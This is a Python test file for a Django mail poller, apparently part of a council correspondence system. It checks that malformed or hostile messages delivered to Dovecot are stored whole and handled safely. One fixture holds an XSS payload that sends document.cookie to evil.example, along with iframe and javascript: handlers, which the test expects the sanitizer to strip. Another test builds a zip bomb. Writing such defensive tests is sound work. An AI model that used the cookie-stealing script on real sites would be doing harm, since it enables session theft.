"""Hostile and broken mail, delivered into a real Dovecot and polled: none stops the poller or
loses the message (each is stored whole, byte for byte, and marked on the server)."""

from __future__ import annotations

import io
import zipfile

import pytest

from harken.correspondence import conf, mailbox, services
from harken.correspondence.models import MailItem

from .conftest import make_email

pytestmark = pytest.mark.django_db


def _poll_one(server, raw: bytes) -> MailItem:
    server.deliver(raw)
    result = mailbox.poll(config=conf.mailbox_settings())
    assert (result.stored, result.failed) == (1, 0), str(result)
    assert server.flagged() == (1, 1)
    item = MailItem.objects.get()
    assert services.item_raw(item) == raw  # kept whole, as it arrived
    return item


def test_malformed_mime_is_kept_and_what_can_be_read_is_shown(mailbox_settings_dovecot):
    raw = (
        b"From: broken@example.org\r\nTo: team@council.example\r\nSubject: Broken\r\n"
        b"Message-ID: <broken@example.org>\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="never-closed"\r\n\r\n'
        b"--never-closed\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        b"!!!not base64 at all!!!\r\n--never-closed\r\nContent-Type: application/pdf\r\n"
        b'Content-Disposition: attachment; filename="=?bogus?Q?x?="\r\n\r\n%PDF-1.4 truncated'
    )
    item = _poll_one(mailbox_settings_dovecot, raw)
    assert item.subject == "Broken"
    assert item.problems  # said, not hidden


def test_a_wrong_or_missing_charset_still_reads(mailbox_settings_dovecot):
    raw = (
        b"From: a@example.org\r\nTo: b@example.org\r\nSubject: Charset\r\n"
        b"Message-ID: <charset@example.org>\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: text/plain; charset=x-no-such-charset\r\n\r\n"
        b"Caf\xc3\xa9 and \xe9t\xe9\r\n"
    )
    item = _poll_one(mailbox_settings_dovecot, raw)
    assert item.text.startswith("Caf")
    assert any("character set that does not exist" in p for p in item.problems)


def test_eight_bit_text_without_a_charset_is_read_as_windows_1252():
    raw = (
        b"From: a@example.org\r\nSubject: No charset\r\nMessage-ID: <nocs@example.org>\r\n"
        b"Content-Type: text/plain\r\n\r\nThe \x93review\x94 meeting\r\n"
    )
    item = services.item_store(raw=raw).item
    assert item.text == "The \u201creview\u201d meeting"


def test_a_thousand_recipients(mailbox_settings_dovecot):
    to = ", ".join(f"person{n}@example.org" for n in range(1000))
    item = _poll_one(mailbox_settings_dovecot, make_email(to=to))
    assert item.recipient_count == 1000
    assert len(item.recipients) == 50


def test_a_25_mb_attachment_is_kept_in_the_message_and_refused_by_the_size_limit(
    mailbox_settings_dovecot,
):
    big = b"%PDF-1.4\n" + b"0" * (25 * 1024 * 1024)
    item = _poll_one(
        mailbox_settings_dovecot,
        make_email(attachments=[("scan.pdf", "application/pdf", big)]),
    )
    [attachment] = item.attachments.all()
    assert attachment.refusal == "It must be smaller than 20MB"
    assert attachment.size == len(big)


def test_two_hundred_attachments(mailbox_settings_dovecot):
    files = [(f"note{n}.txt", "text/plain", f"Note {n}\n".encode()) for n in range(200)]
    item = _poll_one(mailbox_settings_dovecot, make_email(attachments=files))
    assert item.attachments.count() == 200
    assert not item.attachments.exclude(refusal="").exists()


def test_a_zip_bomb_is_refused_without_being_inflated(mailbox_settings_dovecot):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb.txt", b"\0" * (200 * 1024 * 1024))  # 200 MB of zeros
    bomb = buffer.getvalue()
    assert len(bomb) < 1024 * 1024
    item = _poll_one(
        mailbox_settings_dovecot,
        make_email(attachments=[("invoice.zip", "application/zip", bomb)]),
    )
    [attachment] = item.attachments.all()
    assert attachment.refusal.startswith("It appears to be a zip archive.")


def test_an_outlook_msg_attachment_is_accepted_and_its_text_read(mailbox_settings_dovecot):
    msg = _outlook_msg()
    item = _poll_one(
        mailbox_settings_dovecot,
        make_email(attachments=[("forwarded.msg", "application/vnd.ms-outlook", msg)]),
    )
    [attachment] = item.attachments.all()
    assert attachment.refusal == ""
    assert attachment.content_type == "application/vnd.ms-outlook"
    assert "Complaint about the review meeting" in attachment.text


def test_a_damaged_msg_attachment_stays_without_its_text():
    damaged = _outlook_msg()[:3000]
    item = services.item_store(
        raw=make_email(attachments=[("bad.msg", "application/vnd.ms-outlook", damaged)])
    ).item
    [attachment] = item.attachments.all()
    assert attachment.text == ""


def test_html_with_scripts_is_never_kept_raw(mailbox_settings_dovecot):
    html = (
        "<html><body><script>document.location='https://evil.example/'+document.cookie"
        "</script><p>Please <b>call</b> me</p><iframe src='https://evil.example'></iframe>"
        "<a href='javascript:alert(1)' onmouseover='alert(2)'>click</a></body></html>"
    )
    item = _poll_one(mailbox_settings_dovecot, make_email(text="Plain part", html=html))
    assert "<script" not in item.html
    assert "iframe" not in item.html
    assert "javascript:" not in item.html
    assert "onmouseover" not in item.html
    assert "<b>call</b>" in item.html
    assert item.text == "Plain part"


@pytest.fixture
def mailbox_settings_dovecot(mailbox):
    return mailbox


def _outlook_msg() -> bytes:
    """A small Outlook .msg (an OLE compound file with MAPI property streams), written with
    olefile's sibling: built by hand here from the format's documented streams."""
    from .msgfile import outlook_msg

    return outlook_msg(
        subject="Complaint about the review meeting", body="The meeting was cancelled twice."
    )
